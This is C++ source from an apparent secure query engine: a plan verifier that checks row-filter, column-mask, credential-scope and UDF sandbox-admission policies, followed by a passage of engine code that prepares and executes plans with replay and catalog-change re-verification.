#include "engine/plan_verifier.h"

#include <map>
#include <set>

#include "common/strings.h"
#include "engine/optimizer.h"
#include "expr/functions.h"
#include "sandbox/policy.h"
#include "udf/verifier/cache.h"
#include "udf/verifier/fused_check.h"
#include "udf/verifier/verifier.h"

namespace lakeguard {

namespace {

/// Compact node label for diagnostic plan paths ("Limit/SecureView(x)/...").
std::string ShortLabel(const PlanNode& node) {
  switch (node.kind()) {
    case PlanKind::kSecureView:
      return "SecureView(" +
             static_cast<const SecureViewNode&>(node).securable_name() + ")";
    case PlanKind::kResolvedScan:
      return "Scan(" +
             static_cast<const ResolvedScanNode&>(node).table_name() + ")";
    case PlanKind::kRemoteScan:
      return "RemoteScan";
    default:
      return PlanKindName(node.kind());
  }
}

std::string Join(const std::string& parent, const std::string& label) {
  return parent.empty() ? label : parent + "/" + label;
}

/// Resolves a *raw* policy expression (as stored in the catalog) against the
/// table schema exactly the way the analyzer does: column names become
/// ColIdx(canonical_name, ordinal), cataloged function calls become UdfCall
/// nodes. This lets the verifier compute the expression it expects to find
/// in the plan without calling the side-effecting resolution path.
Result<ExprPtr> ResolvePolicyExpr(const ExprPtr& raw, const Schema& schema,
                                  const UnityCatalog* catalog) {
  Status failure = Status::OK();
  ExprPtr resolved = RewriteExpr(raw, [&](const ExprPtr& e) -> ExprPtr {
    if (!failure.ok()) return nullptr;
    if (e->kind() == ExprKind::kColumnRef) {
      const auto& ref = static_cast<const ColumnRefExpr&>(*e);
      if (ref.resolved()) return nullptr;
      int idx = schema.FindField(ref.name());
      if (idx < 0) {
        failure = Status::NotFound("policy references unknown column '" +
                                   ref.name() + "'");
        return nullptr;
      }
      return ColIdx(schema.field(static_cast<size_t>(idx)).name, idx);
    }
    if (e->kind() == ExprKind::kFunctionCall) {
      const auto& call = static_cast<const FunctionCallExpr&>(*e);
      if (IsAggregateFunctionName(call.name())) return nullptr;
      if (LookupBuiltin(call.name()).ok()) return nullptr;
      auto fn = catalog->GetFunction(call.name());
      if (!fn.ok()) {
        failure = fn.status();
        return nullptr;
      }
      return Udf(fn->full_name, fn->owner, fn->return_type, call.args());
    }
    return nullptr;
  });
  if (!failure.ok()) return failure;
  return resolved;
}

/// Expression equality modulo constant folding and FusedPolicy markers: the
/// optimizer may have folded literal subtrees of a policy expression in
/// place, and the analyzer tags injected policy expressions with a
/// semantically transparent marker — both must still count as the same
/// policy.
bool EquivalentExprs(const ExprPtr& a, const ExprPtr& b) {
  ExprPtr fa = FoldPureConstants(StripFusedPolicyMarkers(a));
  ExprPtr fb = FoldPureConstants(StripFusedPolicyMarkers(b));
  return fa->Equals(*fb);
}

/// Collects (lower-cased) names of every column `expr` reads.
void CollectColumnNames(const ExprPtr& expr, std::set<std::string>* out) {
  if (expr == nullptr) return;
  if (expr->kind() == ExprKind::kColumnRef) {
    out->insert(
        ToLowerAscii(static_cast<const ColumnRefExpr&>(*expr).name()));
  }
  for (const ExprPtr& child : expr->children()) {
    CollectColumnNames(child, out);
  }
}

class Checker {
 public:
  Checker(const UnityCatalog* catalog, const ExecutionContext& context,
          const AnalysisResult* analysis, bool check_udf_admission)
      : catalog_(catalog),
        context_(context),
        analysis_(analysis),
        check_udf_admission_(check_udf_admission) {}

  Diagnostics Run(const PlanPtr& plan) {
    CheckContextBinding();
    Walk(plan, "", context_.user);
    CheckCredentials();
    if (check_udf_admission_) CheckUdfAdmission();
    return std::move(diags_);
  }

 private:
  // ---- V6: analysis/context binding ---------------------------------------

  void CheckContextBinding() {
    if (analysis_ == nullptr || analysis_->bound_principal.empty()) return;
    if (analysis_->bound_principal != context_.user) {
      diags_.AddError(PlanVerifier::kContextMismatch, "(root)",
                      "analysis is bound to principal '" +
                          analysis_->bound_principal +
                          "' but the plan is verified for execution as '" +
                          context_.user + "'");
    }
    if (analysis_->bound_compute_id != context_.compute.compute_id) {
      diags_.AddError(PlanVerifier::kContextMismatch, "(root)",
                      "analysis is bound to compute '" +
                          analysis_->bound_compute_id +
                          "' but the plan is verified for execution on '" +
                          context_.compute.compute_id + "'");
    }
  }

  // ---- plan walk ----------------------------------------------------------

  void Walk(const PlanPtr& plan, const std::string& parent,
            const std::string& user) {
    const std::string path = Join(parent, ShortLabel(*plan));
    switch (plan->kind()) {
      case PlanKind::kTableRef:
        diags_.AddError(PlanVerifier::kMalformed, path,
                        "unresolved relation '" +
                            static_cast<const TableRefNode&>(*plan).name() +
                            "' in a plan submitted for execution");
        return;
      case PlanKind::kExtension:
        diags_.AddError(PlanVerifier::kMalformed, path,
                        "unexpanded protocol extension '" +
                            static_cast<const ExtensionNode&>(*plan)
                                .extension_name() +
                            "' in a plan submitted for execution");
        return;
      case PlanKind::kLocalRelation:
        return;
      case PlanKind::kResolvedScan:
        CheckScan(static_cast<const ResolvedScanNode&>(*plan), plan.get(),
                  path, user);
        return;
      case PlanKind::kRemoteScan: {
        const auto& remote = static_cast<const RemoteScanNode&>(*plan);
        if (!remote.remote_plan()) {
          diags_.AddError(PlanVerifier::kMalformed, path,
                          "RemoteScan carries no remote sub-plan");
        }
        if (remote.schema().num_fields() == 0) {
          diags_.AddError(PlanVerifier::kMalformed, path,
                          "RemoteScan carries no schema");
        }
        // The remote sub-plan is deliberately unresolved (the Serverless
        // endpoint analyzes and enforces it); nothing to check inside.
        return;
      }
      case PlanKind::kSecureView:
        CheckSecureView(static_cast<const SecureViewNode&>(*plan), path,
                        user);
        return;
      case PlanKind::kProject: {
        const auto& p = static_cast<const ProjectNode&>(*plan);
        for (const ExprPtr& e : p.exprs()) CheckExpr(e, path);
        Walk(p.child(), path, user);
        return;
      }
      case PlanKind::kFilter: {
        const auto& f = static_cast<const FilterNode&>(*plan);
        CheckExpr(f.condition(), path);
        Walk(f.child(), path, user);
        return;
      }
      case PlanKind::kAggregate: {
        const auto& a = static_cast<const AggregateNode&>(*plan);
        for (const ExprPtr& e : a.group_exprs()) CheckExpr(e, path);
        for (const ExprPtr& e : a.agg_exprs()) CheckExpr(e, path);
        Walk(a.child(), path, user);
        return;
      }
      case PlanKind::kJoin: {
        const auto& j = static_cast<const JoinNode&>(*plan);
        if (j.condition()) CheckExpr(j.condition(), path);
        Walk(j.left(), path, user);
        Walk(j.right(), path, user);
        return;
      }
      case PlanKind::kSort: {
        const auto& s = static_cast<const SortNode&>(*plan);
        for (const SortKey& k : s.keys()) CheckExpr(k.expr, path);
        Walk(s.child(), path, user);
        return;
      }
      case PlanKind::kLimit:
        Walk(static_cast<const LimitNode&>(*plan).child(), path, user);
        return;
    }
  }

  // ---- V0: expression well-formedness; V3: trust-domain fusion ------------

  void CheckExpr(const ExprPtr& expr, const std::string& path) {
    std::function<void(const ExprPtr&)> walk = [&](const ExprPtr& e) {
      if (e->kind() == ExprKind::kColumnRef) {
        const auto& ref = static_cast<const ColumnRefExpr&>(*e);
        if (!ref.resolved()) {
          diags_.AddError(PlanVerifier::kMalformed, path,
                          "unresolved column reference '" + ref.name() +
                              "' in a plan submitted for execution");
        }
        return;
      }
      if (e->kind() == ExprKind::kUdfCall) {
        const auto& call = static_cast<const UdfCallExpr&>(*e);
        // Recorded for the V8 post-pass: admission is checked after the walk
        // completes, once every scan has reported its protected columns.
        udf_uses_.push_back(
            {std::static_pointer_cast<const UdfCallExpr>(e), path});
        for (const ExprPtr& arg : call.args()) {
          bool crosses = ExprContains(arg, [&](const Expr& sub) {
            return sub.kind() == ExprKind::kUdfCall &&
                   static_cast<const UdfCallExpr&>(sub).owner() !=
                       call.owner();
          });
          if (crosses) {
            diags_.AddError(
                PlanVerifier::kTrustDomainFusion, path,
                "UDF pipeline spans two trust domains: output of a foreign-"
                "owner UDF feeds '" +
                    call.function_name() + "' (owner '" + call.owner() +
                    "') within one fused expression");
          }
        }
      }
      for (const ExprPtr& child : e->children()) walk(child);
    };
    walk(expr);
  }

  // ---- V1/V4/V5 bookkeeping at scan leaves --------------------------------

  void CheckScan(const ResolvedScanNode& scan, const PlanNode* node,
                 const std::string& path, const std::string& user) {
    PolicyInspection info =
        catalog_->InspectPolicies(user, context_.compute, scan.table_name());
    scan_users_[scan.table_name()].insert(user);
    if (scan_paths_.find(scan.table_name()) == scan_paths_.end()) {
      scan_paths_[scan.table_name()] = path;
    }
    if (!info.found) {
      diags_.AddWarning(PlanVerifier::kMalformed, path,
                        "scan of '" + scan.table_name() +
                            "' which no longer exists in the catalog");
      return;
    }
    scan_roots_[scan.table_name()] = info.storage_root;
    if (info.enforcement == EnforcementMode::kExternal) {
      diags_.AddError(
          PlanVerifier::kResidualLocalScan, path,
          "relation '" + scan.table_name() +
              "' requires external (eFGAC) enforcement on compute '" +
              context_.compute.compute_id +
              "' but remains a local scan — it must be a RemoteScan leaf");
      return;
    }
    // Locally enforced scans of real storage must carry a vended credential
    // (checked in CheckCredentials once all leaves are known).
    if (!info.storage_root.empty()) {
      needs_token_.insert(scan.table_name());
    }
    // Taint sources for the V8 post-pass: masked columns and the columns the
    // row filter reads are protected for this user.
    for (const ColumnMaskPolicy& m : info.column_masks) {
      protected_columns_.insert(ToLowerAscii(m.column));
    }
    if (info.row_filter.has_value()) {
      CollectColumnNames(info.row_filter->predicate, &protected_columns_);
    }
    const bool policies_expected =
        info.row_filter.has_value() || !info.column_masks.empty();
    if (policies_expected && covered_.find(node) == covered_.end()) {
      diags_.AddError(
          PlanVerifier::kPolicyMissing, path,
          "scan of policy-bearing table '" + scan.table_name() +
              "' is not dominated by its row-filter/column-mask operators");
    }
  }

  // ---- V1/V2: policy-region shape under a SecureView ----------------------

  void CheckSecureView(const SecureViewNode& sv, const std::string& path,
                       const std::string& user) {
    PolicyInspection info = catalog_->InspectPolicies(
        user, context_.compute, sv.securable_name());
    if (!info.found) {
      diags_.AddWarning(PlanVerifier::kMalformed, path,
                        "SecureView guards '" + sv.securable_name() +
                            "' which no longer exists in the catalog");
      Walk(sv.child(), path, user);
      return;
    }
    if (!info.is_table) {
      // Logical view: its expansion resolved under the definer (definer's
      // rights), so everything below is checked as the view owner.
      Walk(sv.child(), path, info.owner);
      return;
    }
    if (info.enforcement == EnforcementMode::kLocal &&
        (info.row_filter.has_value() || !info.column_masks.empty())) {
      VerifyRegion(sv, info, path);
    }
    Walk(sv.child(), path, user);
  }

  /// The policy region under SecureView(T) must be, exactly:
  ///   [Project(masks)] -> [Filter(row filter)] -> Scan(T)
  /// with each expected operator present iff the catalog expects it, in
  /// that order, carrying expressions equal (modulo folding) to the
  /// cataloged policies, and nothing else in between.
  void VerifyRegion(const SecureViewNode& sv, const PolicyInspection& info,
                    const std::string& path) {
    PlanPtr cur = sv.child();
    std::string cur_path = path;
    const bool expect_masks = !info.column_masks.empty();
    const bool expect_filter = info.row_filter.has_value();

    if (expect_masks) {
      if (cur->kind() != PlanKind::kProject) {
        // Missing expected operator vs. a foreign operator standing in its
        // place: both break the region, with distinct codes.
        if (cur->kind() == PlanKind::kFilter ||
            cur->kind() == PlanKind::kResolvedScan) {
          diags_.AddError(PlanVerifier::kPolicyMissing,
                          Join(cur_path, ShortLabel(*cur)),
                          "column-mask Project missing from the policy "
                          "region of '" +
                              sv.securable_name() + "'");
        } else {
          diags_.AddError(PlanVerifier::kRegionContaminated,
                          Join(cur_path, ShortLabel(*cur)),
                          "foreign operator inside the policy region of '" +
                              sv.securable_name() +
                              "' where the column-mask Project belongs");
          return;
        }
      } else {
        const auto& project = static_cast<const ProjectNode&>(*cur);
        cur_path = Join(cur_path, "Project");
        CheckMaskProject(project, info, sv.securable_name(), cur_path);
        cur = project.child();
      }
    }

    if (expect_filter) {
      if (cur->kind() != PlanKind::kFilter) {
        if (cur->kind() == PlanKind::kResolvedScan) {
          diags_.AddError(PlanVerifier::kPolicyMissing,
                          Join(cur_path, ShortLabel(*cur)),
                          "row-filter Filter missing from the policy region "
                          "of '" +
                              sv.securable_name() + "'");
        } else {
          diags_.AddError(PlanVerifier::kRegionContaminated,
                          Join(cur_path, ShortLabel(*cur)),
                          "foreign operator inside the policy region of '" +
                              sv.securable_name() +
                              "' where the row-filter Filter belongs");
          return;
        }
      } else {
        const auto& filter = static_cast<const FilterNode&>(*cur);
        cur_path = Join(cur_path, "Filter");
        auto expected =
            ResolvePolicyExpr(info.row_filter->predicate, info.schema,
                              catalog_);
        if (!expected.ok()) {
          diags_.AddWarning(PlanVerifier::kMalformed, cur_path,
                            "cannot resolve cataloged row filter of '" +
                                sv.securable_name() +
                                "' for comparison: " +
                                expected.status().message());
        } else if (!EquivalentExprs(filter.condition(), *expected)) {
          diags_.AddError(
              PlanVerifier::kRegionContaminated, cur_path,
              "row-filter predicate of '" + sv.securable_name() +
                  "' was altered inside the policy region: plan has " +
                  filter.condition()->ToString() + ", policy is " +
                  (*expected)->ToString());
        }
        cur = filter.child();
      }
    }

    if (cur->kind() == PlanKind::kResolvedScan) {
      const auto& scan = static_cast<const ResolvedScanNode&>(*cur);
      if (scan.table_name() != sv.securable_name()) {
        diags_.AddError(PlanVerifier::kRegionContaminated,
                        Join(cur_path, ShortLabel(scan)),
                        "policy region of '" + sv.securable_name() +
                            "' scans a different table '" +
                            scan.table_name() + "'");
      } else {
        // The region dominates this scan; the V1 check at the leaf passes.
        covered_.insert(cur.get());
      }
    } else if (cur->kind() != PlanKind::kRemoteScan) {
      diags_.AddError(PlanVerifier::kRegionContaminated,
                      Join(cur_path, ShortLabel(*cur)),
                      "unexpected operator at the leaf of the policy region "
                      "of '" +
                          sv.securable_name() + "'");
    }
  }

  void CheckMaskProject(const ProjectNode& project,
                        const PolicyInspection& info,
                        const std::string& securable,
                        const std::string& path) {
    if (project.exprs().size() != info.schema.num_fields()) {
      diags_.AddError(PlanVerifier::kRegionContaminated, path,
                      "mask Project of '" + securable + "' emits " +
                          std::to_string(project.exprs().size()) +
                          " columns, table has " +
                          std::to_string(info.schema.num_fields()));
      return;
    }
    for (size_t i = 0; i < info.schema.num_fields(); ++i) {
      const FieldDef& field = info.schema.field(i);
      const ColumnMaskPolicy* mask = nullptr;
      for (const ColumnMaskPolicy& m : info.column_masks) {
        if (EqualsIgnoreCase(m.column, field.name)) {
          mask = &m;
          break;
        }
      }
      const ExprPtr& actual = project.exprs()[i];
      if (mask == nullptr) {
        // Unmasked columns pass through as themselves.
        ExprPtr expected = ColIdx(field.name, static_cast<int>(i));
        if (!EquivalentExprs(actual, expected)) {
          diags_.AddError(PlanVerifier::kRegionContaminated, path,
                          "mask Project of '" + securable +
                              "' computes an unexpected expression " +
                              actual->ToString() + " for unmasked column '" +
                              field.name + "'");
        }
        continue;
      }
      auto expected = ResolvePolicyExpr(mask->mask_expr, info.schema,
                                        catalog_);
      if (!expected.ok()) {
        diags_.AddWarning(PlanVerifier::kMalformed, path,
                          "cannot resolve cataloged mask for column '" +
                              field.name + "' of '" + securable +
                              "' for comparison: " +
                              expected.status().message());
        continue;
      }
      if (EquivalentExprs(actual, *expected)) continue;
      if (StripFusedPolicyMarkers(actual)->kind() == ExprKind::kColumnRef) {
        diags_.AddError(PlanVerifier::kPolicyMissing, path,
                        "mask for column '" + field.name + "' of '" +
                            securable +
                            "' was stripped — the raw column is exposed");
      } else {
        diags_.AddError(PlanVerifier::kRegionContaminated, path,
                        "mask expression for column '" + field.name +
                            "' of '" + securable +
                            "' was altered: plan has " + actual->ToString() +
                            ", policy is " + (*expected)->ToString());
      }
    }
  }

  // ---- V5: credential scope, checked once per vended token ----------------

  void CheckCredentials() {
    if (analysis_ == nullptr) return;
    const CredentialAuthority* authority = catalog_->credential_authority();
    if (authority == nullptr) return;
    // Inverse direction first: every locally enforced scan must have had a
    // credential vended by catalog resolution. A plan that arrives with
    // pre-resolved scans (forged or replayed around the analyzer) has no
    // entry here and is rejected before execution.
    for (const std::string& table : needs_token_) {
      if (analysis_->read_tokens.find(table) == analysis_->read_tokens.end()) {
        auto path_it = scan_paths_.find(table);
        diags_.AddError(PlanVerifier::kOverbroadCredential,
                        path_it != scan_paths_.end() ? path_it->second : table,
                        "scan of '" + table +
                            "' carries no vended storage credential — the "
                            "plan did not pass catalog resolution for this "
                            "relation");
      }
    }
    for (const auto& [table, token] : analysis_->read_tokens) {
      auto path_it = scan_paths_.find(table);
      const std::string path =
          path_it != scan_paths_.end() ? path_it->second : table;
      auto cred = authority->Inspect(token);
      if (!cred.ok()) {
        diags_.AddWarning(PlanVerifier::kOverbroadCredential, path,
                          "read token for '" + table +
                              "' is unknown or was revoked");
        continue;
      }
      if (cred->allow_write) {
        diags_.AddError(PlanVerifier::kOverbroadCredential, path,
                        "credential for '" + table +
                            "' allows writes; the subtree only reads");
      }
      // Principal must be one of the identities this plan scans the table
      // as (the querying user, or a view definer under definer's rights).
      std::set<std::string> users;
      auto users_it = scan_users_.find(table);
      if (users_it != scan_users_.end()) users = users_it->second;
      if (users.empty()) users.insert(context_.user);
      if (users.find(cred->principal) == users.end()) {
        diags_.AddError(PlanVerifier::kOverbroadCredential, path,
                        "credential for '" + table + "' is bound to '" +
                            cred->principal +
                            "', which is not an identity this plan scans "
                            "the table as");
      }
      auto root_it = scan_roots_.find(table);
      if (root_it == scan_roots_.end() || root_it->second.empty()) continue;
      const std::string& root = root_it->second;
      for (const std::string& prefix : cred->allowed_prefixes) {
        std::string trimmed = prefix;
        while (!trimmed.empty() &&
               (trimmed.back() == '*' || trimmed.back() == '/')) {
          trimmed.pop_back();
        }
        if (trimmed.rfind(root, 0) != 0) {
          diags_.AddError(PlanVerifier::kOverbroadCredential, path,
                          "credential for '" + table +
                              "' unlocks prefix '" + prefix +
                              "' outside the table's storage root '" + root +
                              "'");
        }
      }
    }
  }

  // ---- V8: bytecode-verifier certificates for every dispatched UDF --------

  void CheckUdfAdmission() {
    if (udf_uses_.empty()) return;
    // Resolve every distinct function once; a vanished function is only a
    // warning (execution fails closed on the unresolved body anyway).
    std::map<std::string, FunctionInfo> functions;
    std::set<std::string> unresolved;
    for (const UdfUse& use : udf_uses_) {
      const std::string& name = use.call->function_name();
      if (functions.count(name) > 0 || unresolved.count(name) > 0) continue;
      auto fn = catalog_->GetFunction(name);
      if (!fn.ok()) {
        unresolved.insert(name);
        diags_.AddWarning(PlanVerifier::kUdfUnverified, use.path,
                          "UDF '" + name +
                              "' is no longer in the catalog: " +
                              fn.status().message());
        continue;
      }
      functions[name] = std::move(*fn);
    }
    // Per-owner sandbox policy, built the way the executor provisions it:
    // locked down plus the union of the owner's egress allow-lists. The
    // union is the *widest* policy the owner's sandbox can run under, so V8
    // never rejects a program the dispatcher would admit.
    std::map<std::string, SandboxPolicy> owner_policies;
    for (const auto& [name, fn] : functions) {
      auto [it, inserted] =
          owner_policies.emplace(fn.owner, SandboxPolicy::LockedDown());
      for (const std::string& host : fn.allowed_egress) {
        it->second.egress_allow.push_back(host);
      }
    }
    std::set<std::string> reported;  // (function, taint mask) dedup
    for (const UdfUse& use : udf_uses_) {
      auto fn_it = functions.find(use.call->function_name());
      if (fn_it == functions.end()) continue;
      const FunctionInfo& fn = fn_it->second;
      uint64_t tainted = 0;
      const auto& args = use.call->args();
      for (size_t j = 0; j < args.size(); ++j) {
        std::set<std::string> read;
        CollectColumnNames(args[j], &read);
        for (const std::string& name : read) {
          if (protected_columns_.count(name) > 0) {
            tainted |= UdfCertificate::ArgTaintBit(j);
            break;
          }
        }
      }
      if (!reported.insert(fn.full_name + "#" + std::to_string(tainted))
               .second) {
        continue;
      }
      Result<UdfCertificate> cert =
          VerifiedProgramCache::Global()->GetOrVerify(fn.body);
      if (!cert.ok()) {
        diags_.AddError(PlanVerifier::kUdfUnverified, use.path,
                        "UDF '" + fn.full_name +
                            "' fails bytecode verification: " +
                            cert.status().message());
        continue;
      }
      Status admit =
          AdmitCertificate(*cert, owner_policies.at(fn.owner), tainted);
      if (!admit.ok()) {
        diags_.AddError(PlanVerifier::kUdfUnverified, use.path,
                        "UDF '" + fn.full_name +
                            "' cannot be admitted to the sandbox of trust "
                            "domain '" +
                            fn.owner + "': " + admit.message());
      }
    }
  }

  const UnityCatalog* catalog_;
  const ExecutionContext& context_;
  const AnalysisResult* analysis_;
  Diagnostics diags_;
  /// Scans dominated by a verified policy region (V1 satisfied).
  std::set<const PlanNode*> covered_;
  /// Per-table bookkeeping for the credential post-pass.
  std::map<std::string, std::set<std::string>> scan_users_;
  std::map<std::string, std::string> scan_paths_;
  std::map<std::string, std::string> scan_roots_;
  /// Locally enforced scans of real storage (must hold a vended token).
  std::set<std::string> needs_token_;
  /// V8 bookkeeping: UDF call sites seen during the walk, and the
  /// (lower-cased) protected column names reported by scan leaves.
  struct UdfUse {
    std::shared_ptr<const UdfCallExpr> call;
    std::string path;
  };
  std::vector<UdfUse> udf_uses_;
  std::set<std::string> protected_columns_;
  const bool check_udf_admission_;
};

}  // namespace

Diagnostics PlanVerifier::Verify(const PlanPtr& plan,
                                 const ExecutionContext& context,
                                 const AnalysisResult* analysis) const {
  Checker checker(catalog_, context, analysis, check_udf_admission_);
  return checker.Run(plan);
}

Status PlanVerifier::VerifyToStatus(const PlanPtr& plan,
                                    const ExecutionContext& context,
                                    const AnalysisResult* analysis,
                                    const std::string& label) const {
  return Verify(plan, context, analysis).ToStatus(label);
}

Status PlanVerifier::VerifyFusedProgram(const CompiledExpr& program,
                                        const ExprPtr& expected) {
  if (expected == nullptr) {
    return Status::FailedPrecondition(
        std::string(kFusedMismatch) +
        ": fused program has no expected policy expression to verify "
        "against");
  }
  // Structural verification first: register bounds, write-before-read
  // discipline, known builtins, result-type agreement. A program that fails
  // here is rejected before any attempt to reason about its semantics.
  Status structural = VerifyCompiledProgram(program);
  if (!structural.ok()) {
    return Status::FailedPrecondition(
        std::string(kFusedMismatch) +
        ": fused program fails structural verification: " +
        structural.message());
  }
  auto decompiled = DecompileProgram(program);
  if (!decompiled.ok()) {
    return Status::FailedPrecondition(
        std::string(kFusedMismatch) + ": fused program does not decompile: " +
        decompiled.status().message());
  }
  if (!EquivalentExprs(*decompiled, expected)) {
    return Status::FailedPrecondition(
        std::string(kFusedMismatch) +
        ": fused program implements " + (*decompiled)->ToString() +
        " but the policy-dominated tree is " +
        StripFusedPolicyMarkers(expected)->ToString());
  }
  auto recompiled = CompileExpr(*decompiled, program.input_schema);
  if (!recompiled.ok()) {
    return Status::FailedPrecondition(
        std::string(kFusedMismatch) +
        ": fused program's decompiled tree does not recompile: " +
        recompiled.status().message());
  }
  if (!SameInstructionStream(*recompiled, program)) {
    return Status::FailedPrecondition(
        std::string(kFusedMismatch) +
        ": fused program's instruction stream deviates from the canonical "
        "compilation of " +
        (*decompiled)->ToString());
  }
  return Status::OK();
}

}  // namespace lakeguard
