#include "engine/engine.h"

#include "sql/parser.h"
#include "storage/delta_table.h"

namespace lakeguard {

Table CommandResult(const std::string& message) {
  Schema schema(std::vector<FieldDef>{{"result", TypeKind::kString, false}});
  TableBuilder builder(schema);
  Status s = builder.AppendRow({Value::String(message)});
  (void)s;
  return builder.Build();
}

Result<AnalysisResult> QueryEngine::AnalyzePlan(
    const PlanPtr& plan, const ExecutionContext& context) {
  PlanPtr current = plan;
  if (pre_rewriter_ != nullptr) {
    LG_ASSIGN_OR_RETURN(current, pre_rewriter_->Rewrite(current, context));
  }
  Analyzer analyzer(services_.catalog, context, services_.extensions);
  return analyzer.Analyze(current);
}

Result<Table> QueryEngine::ExecutePlan(const PlanPtr& plan,
                                       const ExecutionContext& context) {
  LG_ASSIGN_OR_RETURN(ExplainedExecution exec,
                      ExecutePlanExplained(plan, context));
  return std::move(exec.result);
}

Result<PreparedQuery> QueryEngine::PreparePlan(const PlanPtr& plan,
                                               const ExecutionContext& context) {
  PreparedQuery out;
  out.source = plan;
  out.rewritten = plan;
  if (pre_rewriter_ != nullptr) {
    LG_ASSIGN_OR_RETURN(out.rewritten, pre_rewriter_->Rewrite(plan, context));
  }
  Analyzer analyzer(services_.catalog, context, services_.extensions);
  LG_ASSIGN_OR_RETURN(AnalysisResult analysis, analyzer.Analyze(out.rewritten));
  out.analysis = std::make_unique<AnalysisResult>(std::move(analysis));
  // Bind the prepared plan to the identity, compute, and catalog epoch it
  // was admitted under; ExecutePrepared rechecks all three.
  out.analysis->bound_principal = context.user;
  out.analysis->bound_compute_id = context.compute.compute_id;
  out.analysis->catalog_epoch = services_.catalog->epoch();

  PlanVerifier verifier(services_.catalog,
                        /*check_udf_admission=*/config_.exec.isolate_udfs);
  if (config_.verify.verify_after_analysis) {
    LG_RETURN_IF_ERROR(verifier.VerifyToStatus(
        out.analysis->plan, context, out.analysis.get(),
        "plan verification failed after analysis"));
  }
  Optimizer optimizer(config_.opt);
#ifdef LAKEGUARD_VERIFY_REWRITES
  if (config_.verify.verify_rewrites) {
    // Debug mode: the optimizer applies one rule at a time and this hook
    // re-verifies after every step, so a violation is attributed to the
    // rewrite that introduced it rather than the fixpoint end state.
    AnalysisResult* analysis_ptr = out.analysis.get();
    optimizer.set_verify_hook(
        [this, &verifier, &context, analysis_ptr](const PlanPtr& p,
                                                  const char* rule) {
          return verifier.VerifyToStatus(
              p, context, analysis_ptr,
              std::string("plan verification failed after optimizer "
                          "rewrite '") +
                  rule + "'");
        });
  }
#endif
  LG_ASSIGN_OR_RETURN(out.optimized, optimizer.Optimize(out.analysis->plan));
  if (config_.verify.verify_after_optimize) {
    LG_RETURN_IF_ERROR(verifier.VerifyToStatus(
        out.optimized, context, out.analysis.get(),
        "plan verification failed after optimization"));
  }
  return out;
}

Result<PreparedQuery> QueryEngine::PrepareSql(const std::string& sql,
                                              const ExecutionContext& context) {
  LG_ASSIGN_OR_RETURN(ParsedStatement stmt, ParseSql(sql));
  if (auto* select = std::get_if<SelectStatement>(&stmt)) {
    return PreparePlan(select->plan, context);
  }
  PreparedQuery out;
  out.command = std::move(stmt);
  return out;
}

Result<QueryEngine::ExplainedExecution> QueryEngine::ExecutePlanExplained(
    const PlanPtr& plan, const ExecutionContext& context) {
  LG_ASSIGN_OR_RETURN(PreparedQuery prepared, PreparePlan(plan, context));
  ExplainedExecution out;
  out.source = prepared.source;
  out.rewritten = prepared.rewritten;
  out.resolved = prepared.analysis->plan;
  out.optimized = prepared.optimized;
  Executor executor(services_, config_.exec, context, prepared.analysis.get());
  LG_ASSIGN_OR_RETURN(out.result, executor.Execute(out.optimized));
  return out;
}

Result<QueryResultStreamPtr> QueryEngine::ExecutePrepared(
    PreparedQuery prepared, const ExecutionContext& context) {
  if (prepared.command.has_value()) {
    // Commands execute eagerly (they are side effects); their one-row
    // status table is wrapped in a stream for a uniform caller interface.
    LG_ASSIGN_OR_RETURN(Table result, RunCommand(*prepared.command, context));
    QueryResultStreamPtr stream(new QueryResultStream());
    stream->cancel_source_ = CancellationSource::LinkedTo(context.cancel);
    stream->iterator_ =
        MakeTableIterator(std::move(result), config_.exec.batch_size);
    stream->schema_ = stream->iterator_->schema();
    return stream;
  }

  if (prepared.analysis != nullptr) {
    // Replay hardening: a prepared plan is bound to the (principal, compute)
    // pair it was admitted under. Handing it to another session for
    // execution would run with the original user's vended credentials.
    const AnalysisResult& analysis = *prepared.analysis;
    if (!analysis.bound_principal.empty() &&
        (analysis.bound_principal != context.user ||
         analysis.bound_compute_id != context.compute.compute_id)) {
      return Status::PermissionDenied(
          "prepared plan is bound to principal '" + analysis.bound_principal +
          "' on compute '" + analysis.bound_compute_id +
          "'; execution as '" + context.user + "' on compute '" +
          context.compute.compute_id + "' rejected");
    }
    // Policy-change race hardening: if the catalog has published any epoch
    // beyond the one the plan was verified under, re-verify before running.
    // A plan whose policy shape no longer matches current policy fails with
    // the verifier's typed status instead of executing stale enforcement.
    const uint64_t current_epoch = services_.catalog->epoch();
    if (analysis.catalog_epoch != 0 &&
        current_epoch != analysis.catalog_epoch) {
      PlanVerifier verifier(services_.catalog,
                            /*check_udf_admission=*/config_.exec.isolate_udfs);
      LG_RETURN_IF_ERROR(verifier.VerifyToStatus(
          prepared.optimized, context, prepared.analysis.get(),
          "catalog changed since preparation (epoch " +
              std::to_string(analysis.catalog_epoch) + " -> " +
              std::to_string(current_epoch) +
              "); plan re-verification failed"));
    }
  }

  // Assemble in dependency order: the executor borrows the heap-pinned
  // analysis, the iterator borrows both — all owned by the stream.
  QueryResultStreamPtr stream(new QueryResultStream());
  stream->analysis_ = std::move(prepared.analysis);
  stream->optimized_ = prepared.optimized;
  // The executor runs under a stream-owned source linked to the caller's
  // token: a CancelOperation upstream and a direct stream->Cancel() both
  // stop the pipeline at its next pull.
  stream->cancel_source_ = CancellationSource::LinkedTo(context.cancel);
  ExecutionContext exec_context = context;
  exec_context.cancel = stream->cancel_source_.token();
  // Degradation ladder, step 1: under session-level memory pressure the new
  // query starts with a smaller batch_size (halved at 50% usage, halved
  // again at 75%, floor 64 rows) before any breaker has to spill or the
  // service sheds load. Pressure is read from the *session* budget — the
  // operation's own budget is empty at this point by construction.
  ExecutionOptions exec_options = config_.exec;
  uint64_t shrinks = 0;
  if (context.memory && context.memory->parent() &&
      context.memory->parent()->limit_bytes() > 0) {
    const double pressure = context.memory->parent()->UsageFraction();
    constexpr size_t kMinBatchSize = 64;
    if (pressure >= 0.5 && exec_options.batch_size / 2 >= kMinBatchSize) {
      exec_options.batch_size /= 2;
      ++shrinks;
    }
    if (pressure >= 0.75 && exec_options.batch_size / 2 >= kMinBatchSize) {
      exec_options.batch_size /= 2;
      ++shrinks;
    }
  }
  stream->executor_ = std::make_unique<Executor>(
      services_, exec_options, std::move(exec_context),
      stream->analysis_.get());
  if (shrinks > 0) stream->executor_->NoteBatchShrinks(shrinks);
  LG_ASSIGN_OR_RETURN(stream->iterator_,
                      stream->executor_->Open(stream->optimized_));
  stream->schema_ = stream->iterator_->schema();
  return stream;
}

Result<QueryResultStreamPtr> QueryEngine::ExecutePlanStreaming(
    const PlanPtr& plan, const ExecutionContext& context) {
